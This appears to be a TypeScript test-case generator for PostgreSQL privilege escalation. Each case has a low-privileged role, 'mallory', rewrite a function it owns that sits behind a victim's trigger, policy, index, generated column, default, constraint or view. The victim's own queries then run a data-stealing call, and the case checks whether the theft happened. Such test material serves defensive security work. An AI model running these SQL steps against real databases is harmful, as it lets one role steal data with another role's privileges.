// A function of mallory's behind every part of a table that can call one.

import { mallory, victim, OPEN, LOOT, LOOTED, STEALS, TABLE, type Case } from './escalation-case.js';

export const HOOKS = ['trigger', 'policy', 'index', 'generated column', 'default', 'constraint', 'view'] as const;

/** A function of mallory's behind something of the victim's table: mallory replaces its body, the victim uses the table. */
export function hook(kind: (typeof HOOKS)[number]): Case {
  const returns = kind === 'trigger' ? 'trigger' : 'int';
  const parameter = kind === 'trigger' ? '' : 'int';
  const head = `CREATE OR REPLACE FUNCTION app.f(${parameter}) RETURNS ${returns} LANGUAGE plpgsql${kind === 'trigger' ? '' : ' IMMUTABLE'}`;
  const result = kind === 'trigger' ? 'RETURN NEW' : 'RETURN 1';
  const harmless = `${head} AS $$BEGIN ${result}; END$$`;
  const use: { readonly [k in typeof kind]: string } = {
    trigger: 'CREATE TRIGGER x BEFORE INSERT ON app.t FOR EACH ROW EXECUTE FUNCTION app.f()',
    policy:
      'CREATE POLICY x ON app.t USING (app.f(a) = 1); ALTER TABLE app.t ENABLE ROW LEVEL SECURITY; ALTER TABLE app.t FORCE ROW LEVEL SECURITY',
    index: 'CREATE INDEX x ON app.t (app.f(a))',
    'generated column': 'ALTER TABLE app.t ADD g int GENERATED ALWAYS AS (app.f(a)) STORED',
    default: 'ALTER TABLE app.t ADD d int DEFAULT app.f(1)',
    constraint: 'ALTER TABLE app.t ADD CONSTRAINT x CHECK (app.f(a) = 1)',
    view: 'CREATE VIEW app.v AS SELECT app.f(a) AS a FROM app.t; GRANT SELECT ON app.v TO victim',
  };
  // What is called immutable may not write, in its own statement; a function it calls may.
  const loot = `${head} AS $$BEGIN PERFORM app.loot_it(); ${result}; END$$`;
  return {
    how: 'function-owner',
    title: `behind a ${kind}`,
    says: `function-owner ${kind === 'view' ? 'view' : 'table'}`,
    setup: [
      OPEN,
      ...LOOT,
      ...TABLE,
      'INSERT INTO app.t VALUES (1)',
      `CREATE FUNCTION app.loot_it() RETURNS void LANGUAGE sql AS '${STEALS}'`,
      harmless,
      use[kind],
      `ALTER FUNCTION app.f(${parameter}) OWNER TO mallory`,
      'GRANT CREATE ON SCHEMA app TO mallory',
    ],
    attempt: [
      mallory(loot),
      victim('INSERT INTO app.t (a) VALUES (2)'),
      victim(kind === 'view' ? 'SELECT * FROM app.v' : 'SELECT * FROM app.t'),
    ],
    proof: LOOTED,
    stop: ['TRUNCATE app.loot', harmless, `ALTER FUNCTION app.f(${parameter}) OWNER TO victim`],
  };
}
